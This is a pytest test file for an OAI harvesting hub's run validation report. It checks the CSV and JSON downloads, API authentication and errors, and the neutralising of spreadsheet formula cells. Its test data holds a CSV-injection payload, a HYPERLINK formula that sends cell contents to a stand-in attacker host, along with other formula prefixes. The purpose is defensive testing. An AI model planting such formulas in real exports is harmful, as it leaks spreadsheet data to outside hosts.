"""A run's validation report: rejected records with identifiers, reasons and raw XML, as
CSV and JSON from the run page and from GET /api/runs/<id>/report."""

from __future__ import annotations

import csv
import io

from flask.testing import FlaskClient
from lxml import etree

from oai.harvest.runlog import RunLog
from oai.hub import Hub
from tests.oai.web.admin.conftest import API_TOKEN, Data
from tests.oai.web.admin.test_api import conforms

RAW = "<record><header><identifier>oai:partner:7</identifier></header><x>ž</x></record>"


def rejected_run(hub: Hub) -> int:
    log = RunLog(hub.engine)
    run = log.runs.start("partner", trigger="manual")
    log.events.add(run, "info", "page", "page 1", page=1)
    log.events.add(
        run,
        "error",
        "record",
        "record rejected: no title",
        page=1,
        identifier="oai:partner:7",
        raw=RAW.encode(),
        detail={"error": "no title"},
    )
    log.runs.bump(run, failed=1)
    log.runs.finish(run, "ok")
    return run


def test_csv_and_json_downloads_from_the_run_page(
    admin: FlaskClient, admin_hub: Hub, data: Data
) -> None:
    run = rejected_run(admin_hub)
    page = etree.HTML(admin.get(f"/admin/runs/{run}").get_data(as_text=True))
    link = page.xpath('//a[@id="report-csv"]/@href')[0]
    response = admin.get(link)
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [(r["identifier"], r["reason"], r["raw_xml"]) for r in rows] == [
        ("oai:partner:7", "no title", RAW)
    ]
    body = admin.get(page.xpath('//a[@id="report-json"]/@href')[0]).json
    assert body["rejected"] == 1 and body["records"][0]["raw_xml"] == RAW


def test_the_api_report(anon: FlaskClient, admin_hub: Hub, data: Data) -> None:
    run = rejected_run(admin_hub)
    headers = {"X-API-Token": API_TOKEN}
    body = anon.get(f"/api/runs/{run}/report", headers=headers).json
    conforms(body, "/api/runs/{run_id}/report")
    assert body["records"][0]["identifier"] == "oai:partner:7"
    assert anon.get(f"/api/runs/{run}/report?format=csv", headers=headers).mimetype == "text/csv"
    assert anon.get(f"/api/runs/{run}/report?format=xls", headers=headers).status_code == 400
    assert anon.get("/api/runs/9999/report", headers=headers).status_code == 404
    assert anon.get(f"/api/runs/{run}/report").status_code == 401
    empty = anon.get(f"/api/runs/{data.ok_run}/report", headers=headers).json
    assert empty["records"] == []


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def test_report_csv_cells_are_neutralised_but_json_keeps_them_raw(
    admin: FlaskClient, admin_hub: Hub, data: Data
) -> None:
    """Finding 4: cells a spreadsheet would evaluate were written as the partner sent them."""
    log = RunLog(admin_hub.engine)
    run = log.runs.start("partner", trigger="manual")
    for n, formula in enumerate(FORMULAS):
        log.events.add(
            run,
            "error",
            "record",
            "record rejected",
            page=1,
            identifier=formula,
            raw=formula.encode(),
            detail={"error": f"{formula} {n}"},
        )
    log.runs.finish(run, "ok")
    text = admin.get(f"/admin/runs/{run}/report.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for field in ("identifier", "reason", "raw_xml"):
            assert row[field].startswith("'"), (field, row[field])
        assert row["page"] == "1"  # plain values stay as they are
    raw = admin.get(f"/admin/runs/{run}/report.json").json
    assert sorted(r["identifier"] for r in raw["records"]) == sorted(FORMULAS)
